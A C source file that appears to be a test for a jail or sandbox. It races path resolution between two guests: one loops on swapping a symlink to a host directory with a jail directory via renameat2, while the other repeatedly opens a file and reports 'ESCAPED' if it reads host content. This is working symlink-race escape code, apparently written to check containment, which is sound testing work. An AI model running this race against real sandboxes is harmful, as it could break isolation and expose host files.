/* Races path resolution from two guests sharing one --root. "swap HOSTDIR" makes /race.link a symlink to
   HOSTDIR (a host directory outside the root) and exchanges it with the directory /race in a loop until
   /race.stop exists; "open SECONDS" opens /race/SECRET in a loop. Reading the host file (its text starts
   with OUTSIDE) is an escape; inside the root the name leads to the jail's own file or to nothing. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int swapper(const char *host_directory)
{
    if (symlink(host_directory, "/race.link") != 0) { perror("symlink"); return 1; }
    double end = now() + 60; /* never outlive a broken opener for long */
    for (long i = 0;; i++)
    {
        syscall(SYS_renameat2, AT_FDCWD, "/race", AT_FDCWD, "/race.link", RENAME_EXCHANGE);
        if ((i & 255) == 0 && (access("/race.stop", F_OK) == 0 || now() > end)) break;
    }
    return 0;
}

static int opener(double seconds)
{
    struct stat st;
    for (double wait = now() + 30; lstat("/race.link", &st) != 0 && now() < wait;) usleep(1000);
    long tries = 0, inside = 0, errors = 0;
    int escaped = 0;
    for (double end = now() + seconds; !escaped && ((tries & 63) != 0 || now() < end); tries++)
    {
        int fd = open("/race/SECRET", O_RDONLY);
        if (fd < 0) { errors++; continue; }
        char text[16] = { 0 };
        read(fd, text, sizeof text - 1);
        close(fd);
        if (strncmp(text, "OUTSIDE", 7) == 0) escaped = 1;
        else inside++;
    }
    close(open("/race.stop", O_CREAT | O_WRONLY, 0644));
    printf("%s after %ld tries (%ld inside, %ld missing)\n", escaped ? "ESCAPED" : "held", tries, inside, errors);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "swap") == 0) return swapper(argv[2]);
    if (argc == 3 && strcmp(argv[1], "open") == 0) return opener(atof(argv[2]));
    fprintf(stderr, "usage: jailrace swap HOSTDIR | open SECONDS\n");
    return 2;
}
